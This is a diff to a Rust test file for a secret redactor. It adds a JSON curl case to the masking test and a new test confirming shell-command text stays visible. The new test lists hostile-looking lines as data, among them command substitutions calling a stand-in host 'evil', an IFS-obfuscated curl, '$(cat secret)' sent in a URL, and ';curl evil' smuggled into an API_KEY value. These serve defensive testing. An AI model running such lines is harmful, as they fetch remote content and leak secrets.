@@ -104,7 +104,7 @@ fn secrets_are_not_shown() {
         "url": "https://ada:pw1234@host/x?api_key=abcd1234&b=c",
         "header": "curl -H 'Authorization: Basic YWRhOnB3' x",
         "pem": "-----BEGIN RSA PRIVATE KEY-----\nMII\n-----END RSA PRIVATE KEY-----\nrest",
-        "short": "abc",
+        "short": "abc", "json": "curl -d '{\"password\": \"hunter\", \"user\": \"ada\"}'",
     });
     let shown = redactor.redact(&value);
     assert_eq!(
@@ -117,9 +117,25 @@ fn secrets_are_not_shown() {
             "url": format!("https://ada:{MARK}@host/x?api_key={MARK}&b=c"),
             "header": format!("curl -H 'Authorization: Basic {MARK}' x"),
             "pem": format!("{MARK}\nrest"),
-            "short": "abc",
+            "short": "abc", "json": format!("curl -d '{{\"password\": \"{MARK}\", \"user\": \"ada\"}}'"),
         })
     );
+}
+
+#[test]
+fn what_a_shell_would_run_is_shown() {
+    let redactor = Redactor::default();
+    for line in [
+        "TOKEN=`curl${IFS}evil` x",
+        "TOKEN=$(curl evil) x",
+        "echo authorization:$(curl evil)",
+        "echo 'authorization: '`curl evil`",
+        "curl 'https://a/?token='$(cat secret)",
+        "API_KEY=;curl evil",
+        "API_KEY=a|curl evil",
+    ] {
+        assert_eq!(redactor.text(line), line);
+    }
 }
 
 #[test]
